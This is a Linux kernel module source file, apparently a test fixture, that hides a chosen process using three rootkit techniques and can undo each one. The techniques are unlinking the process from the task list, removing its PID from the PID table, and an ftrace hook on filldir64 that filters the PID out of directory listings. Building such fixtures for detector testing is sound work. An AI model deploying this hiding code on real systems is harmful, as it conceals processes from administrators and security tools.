// SPDX-License-Identifier: GPL-2.0
/* A process hidden in the ways that rootkits know, and shown again. Only for test guests. */
#include <linux/dcache.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/idr.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/string.h>
#include <linux/version.h>

#include "vtest.h"

static struct task_struct *task;
static struct pid *number;
static const char *way;
static char name[12];

/* --- listings: each entry of a folder passes filldir64()
 * --------------------------------------------- */

typedef bool filldir_fn(struct dir_context *ctx, const char *entry, int len, loff_t offset, u64 ino,
			unsigned int type);
static filldir_fn *real_filldir;

static bool filter(struct dir_context *ctx, const char *entry, int len, loff_t offset, u64 ino,
		   unsigned int type)
{
	if (len == strlen(name) && !memcmp(entry, name, len))
		return true;
	return real_filldir(ctx, entry, len, offset, ino, type);
}

static void notrace divert(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
			   struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs && !within_module(parent, THIS_MODULE)) {
		real_filldir = (filldir_fn *)(ip + MCOUNT_INSN_SIZE);
		regs->ip = (unsigned long)filter;
	}
}

static struct ftrace_ops ops = {
	.func = divert,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int filter_listings(void)
{
	static char function[] = "filldir64";
	int err = ftrace_set_filter(&ops, function, strlen(function), 0);

	return err ? err : register_ftrace_function(&ops);
}

/* ---------------------------------------------------------------------------------------------------
 */

int try_hide(const char *variant, int pid)
{
	int err = 0;

	number = find_get_pid(pid);
	task = number ? get_pid_task(number, PIDTYPE_TGID) : NULL;
	if (!task)
		return -ESRCH;
	snprintf(name, sizeof(name), "%d", pid);
	preempt_disable();
	if (!strcmp(variant, "tasklist"))
		list_del_rcu(&task->tasks);
	else if (!strcmp(variant, "pidtable"))
		idr_remove(&init_pid_ns.idr, pid);
	preempt_enable();
	if (!strcmp(variant, "listing"))
		err = filter_listings();
	way = variant;
	say("hidden from %s: pid %d, comm %s%s", variant, pid, task->comm, err ? ", failed" : "");
	return err;
}

void undo_hide(void)
{
	if (!task)
		return;
	if (!strcmp(way, "tasklist")) {
		preempt_disable();
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
		preempt_enable();
	} else if (!strcmp(way, "pidtable")) {
		int nr = pid_nr(number);

		idr_preload(GFP_KERNEL);
		idr_alloc(&init_pid_ns.idr, number, nr, nr + 1, GFP_ATOMIC);
		idr_preload_end();
	} else {
		unregister_ftrace_function(&ops);
	}
	say("shown again: pid %d", task_pid_nr(task));
	put_task_struct(task);
	put_pid(number);
}
